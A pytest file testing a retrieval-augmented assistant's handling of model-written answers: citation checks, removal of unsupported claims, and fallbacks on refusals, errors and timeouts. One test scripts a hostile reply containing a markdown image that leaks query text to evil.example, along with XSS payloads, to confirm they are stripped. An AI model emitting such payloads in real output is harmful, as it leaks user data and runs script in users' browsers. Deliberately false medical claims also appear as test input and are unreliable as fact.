"""Answers that a model writes, over a real server, the real search and the real check."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest

from benchmarks.openai_server import Passages, Reply
from rag import Answer, Assistant
from rag.errors import ModelError, UsageError
from rag.export import answer_to_dict, answer_to_markdown
from rag.types import Support
from tests.generation.conftest import Writing

QUESTION = "Which antigens do monoclonal antibodies target?"


def copying(passages: Passages) -> str:
    """What a well-behaved model writes: what stands there, with its number."""
    return " ".join(f"{one['text'].strip()} [{one['passage']}]" for one in passages[:2])


def told(answer: Answer) -> tuple[Any, ...]:
    """An answer but for what is of the model and of the clock."""
    return answer.text, answer.citations, answer.confidence, answer.abstained, answer.nearest


def assert_sound(answer: Answer, assistant: Assistant) -> None:
    """What holds of every written answer."""
    assert answer.generated
    assert [one.number for one in answer.citations] == list(range(1, len(answer.citations) + 1))
    for one in answer.citations:
        assert assistant.document(one.document_id).text[one.start : one.end] == one.quote
    for statement in answer.statements:
        assert statement.support in (Support.SUPPORTED, Support.PARTLY)
        assert statement.citations
        assert set(statement.citations) <= {one.number for one in answer.citations}
        assert statement.text in answer.text


def assert_quoted(answer: Answer, assistant: Assistant, notice: str) -> None:
    """That the answer is the one made of quotations, and says why."""
    with Assistant.open(assistant.settings.index) as plain:
        assert told(answer) == told(plain.ask(QUESTION))
    assert not answer.generated
    assert not answer.abstained
    assert answer.statements == ()
    assert answer.notice.startswith(f"openai:scripted {notice}")
    assert "\n" not in answer.notice


def test_a_well_behaved_model_writes_the_answer(writing: Writing) -> None:
    assistant, server = writing(Reply(copying, between=0.002))
    grown = list(assistant.ask_written(QUESTION))
    answer = grown[-1]
    assert_sound(answer, assistant)
    assert [len(one.statements) for one in grown[:-1]] == list(range(len(grown) - 1))
    assert not grown[0].generated
    assert grown[0].citations
    assert (answer.removed, answer.notice) == (0, "")
    assert answer.usage == {"input_tokens": 120, "output_tokens": 17}
    assert answer.timings_ms["total"] >= answer.timings_ms["write"] > 0
    assert server.requests[0]["key"] == "Bearer none"
    form = answer_to_dict(answer)
    assert form["generated"] is True
    assert form["statements"][0]["support"] == "supported"
    assert answer_to_markdown(answer).index("## Quotations") > 0


def test_what_the_passages_do_not_carry_is_left_out(writing: Writing) -> None:
    def lying(passages: Passages) -> str:
        return (
            f"{passages[0]['text']} [1] Blinatumomab cured 97% of 4,210 patients in Norway [1]. "
            "Aspirin targets CD19 [2]. It was found in 1867. Everybody knows that [77]."
        )

    assistant, _ = writing(Reply(lying))
    answer = assistant.ask(QUESTION)
    assert_sound(answer, assistant)
    assert answer.removed == 4
    assert "97%" not in answer.text
    assert "Aspirin" not in answer.text


def test_or_is_marked_where_that_is_set(writing: Writing) -> None:
    assistant, _ = writing(
        Reply(lambda passages: f"{passages[0]['text']} [1] It was found in 1867."),
        unsupported="mark",
    )
    answer = assistant.ask(QUESTION)
    assert answer.removed == 0
    assert answer.statements[-1].support is Support.NOT
    assert answer.text.endswith("It was found in 1867. (not supported)")


def test_passages_are_numbered_in_the_order_of_their_use(writing: Writing) -> None:
    def backwards(passages: Passages) -> str:
        return " ".join(f"{one['text']} [{one['passage']}]" for one in passages[1::-1])

    assistant, _ = writing(Reply(backwards))
    answer = assistant.ask(QUESTION)
    assert_sound(answer, assistant)
    assert [one.citations for one in answer.statements] == [(1,), (2,)]


def test_markup_does_not_get_through(writing: Writing) -> None:
    def hostile(passages: Passages) -> str:
        return (
            f"![pixel](http://evil.example/?q={QUESTION.split()[0]}) {passages[0]['text']} [1]"
            "(http://evil.example/1)\n\n<img src=x onerror=alert(1)>\n[see](javascript:alert(1)) "
            "<script>alert(1)</script> [9]"
        )

    assistant, _ = writing(Reply(hostile))
    answer = assistant.ask(QUESTION)
    assert_sound(answer, assistant)
    assert not any(
        part in answer.text for part in ("evil", "http", "<", "![", "script", "](", "[9]")
    )


@pytest.mark.parametrize(
    ("text", "notice"),
    [
        ("", "wrote nothing that the passages carry"),
        ("I'm sorry, but I can't help with that request.", "wrote nothing that"),
        ("NO ANSWER", "found no answer in the passages"),
        ("[1] [2] [3] ]]]] {{{ \x00\x07 ```", "wrote nothing that"),
        ("blah " * 5000, "wrote nothing that"),
    ],
)
def test_refusals_and_rubbish_leave_the_quotations(
    writing: Writing, text: str, notice: str
) -> None:
    assistant, _ = writing(Reply(text))
    assert_quoted(assistant.ask(QUESTION), assistant, notice)


@pytest.mark.parametrize(
    ("reply", "requests", "seconds", "notice"),
    [
        (Reply("key sk-123 is wrong", status=401), 1, 250, "refused the key"),
        (Reply("no such model", status=404), 1, 250, "is not known there"),
        (Reply("down", status=503), 3, 250, "failed (status 503)"),
        (Reply("wait", status=429, headers={"retry-after": "900"}), 1, 250, "is at its limit"),
        (Reply(copying, wait=90), 1, 2, "took more than 2 s"),
        (Reply(copying, between=1), 1, 2, "took more than 2 s"),
        (Reply(copying, breaks_after=3), 1, 250, "failed ("),
    ],
    ids=["key", "name", "down", "limit", "silent", "slow", "cut"],
)
def test_a_model_that_fails_leaves_the_quotations(
    writing: Writing, reply: Reply, requests: int, seconds: int, notice: str
) -> None:
    assistant, server = writing(reply, model_seconds=seconds)
    answer = assistant.ask(QUESTION)
    assert_quoted(answer, assistant, notice)
    assert seconds > 2 or answer.timings_ms["write"] < 20_000
    assert len(server.requests) <= requests
    assert "sk-123" not in answer.notice


def test_what_fails_in_passing_is_tried_again(writing: Writing) -> None:
    limited = Reply("wait", status=429, headers={"retry-after": "0.1"})
    assistant, server = writing(Reply("oops", status=500), limited, Reply(copying))
    assert_sound(assistant.ask(QUESTION), assistant)
    assert len(server.requests) == 3


def test_a_server_that_is_not_there_leaves_the_quotations(writing: Writing) -> None:
    assistant, _ = writing(Reply(), model_url="http://127.0.0.1:9/v1")
    assert_quoted(assistant.ask(QUESTION), assistant, "cannot be reached")


def test_to_stop_reading_is_to_stop_the_model(writing: Writing) -> None:
    def endless(passages: Passages) -> str:
        return f"{passages[0]['text']} [1] " + "And so it goes on and on. " * 5000

    assistant, server = writing(Reply(endless, between=0.01))
    growing = assistant.ask_written(QUESTION)
    assert not next(growing).generated
    assert next(growing).generated
    growing.close()
    assert server.ended.wait(20)
    assert server.pieces < 2000


@pytest.mark.parametrize("finish", ["length", "content_filter", None])
def test_a_sentence_that_breaks_off_is_left_out(writing: Writing, finish: Any) -> None:
    def broken(passages: Passages) -> str:
        return f"{passages[0]['text']} [1] {passages[1]['text'][:25]}"

    assistant, _ = writing(Reply(broken, finish=finish), unsupported="mark")
    answer = assistant.ask(QUESTION)
    assert len(answer.statements) == 1


def test_who_waits_for_a_silent_model_can_stop_it(writing: Writing) -> None:
    assistant, _ = writing(Reply(copying, wait=200))
    stopping = threading.Event()
    growing = assistant.ask_written(QUESTION, stopping=stopping)
    quoted = next(growing)
    threading.Timer(0.3, stopping.set).start()
    (last,) = growing
    assert last.timings_ms["write"] < 20_000
    assert last.citations == quoted.citations
    assert "was stopped" in last.notice


def test_an_abstention_stays_one_and_the_model_is_not_asked(writing: Writing) -> None:
    assistant, server = writing(Reply("Bread is baked at 220 °C [1]."))
    answer = assistant.ask("How do I bake bread?")
    assert answer.abstained
    assert not answer.generated
    assert server.requests == []


def test_passages_are_data_within_a_budget(writing: Writing) -> None:
    assistant, server = writing(Reply(copying), model_tokens=200)
    assistant.ask(QUESTION)
    first, (system, human) = server.requests[0], server.requests[0]["messages"]
    assert len(human["content"]) < 200 * 3 + 300
    fence = human["content"].splitlines()[0]
    assert fence in system["content"]
    assistant.ask(QUESTION)
    assert fence not in server.requests[1]["messages"][1]["content"]
    assert first["model"] == "scripted"


@pytest.mark.parametrize(
    ("named", "error", "mend"),
    [
        ({"model": "llama"}, UsageError, "openai:NAME"),
        ({"chat_model": "llama"}, UsageError, "chat models"),
        ({"model": "mistralai:small"}, ModelError, "pip install langchain-mistralai"),
    ],
)
def test_a_model_that_cannot_be_opened_says_the_mend(
    seed_index: Path, named: dict[str, Any], error: type[Exception], mend: str
) -> None:
    with (
        Assistant.open(seed_index, **named) as assistant,
        pytest.raises(error, match=mend) as caught,
    ):
        assistant.ask(QUESTION)
    assert "\n" not in str(caught.value)
